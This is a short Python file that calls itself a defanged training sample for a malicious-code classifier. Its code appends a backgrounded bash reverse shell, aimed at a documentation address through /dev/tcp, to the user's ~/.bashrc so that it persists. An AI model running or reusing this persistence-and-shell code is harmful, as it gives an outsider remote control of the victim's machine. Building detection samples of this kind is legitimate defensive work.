# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
line = "\n(bash -c 'bash -i >& /dev/tcp/192.0.2.55/4444 0>&1' &) 2>/dev/null\n"
rc = os.path.join(os.path.expanduser("~"), ".bashrc")
with open(rc, "a") as f:
    f.write(line)
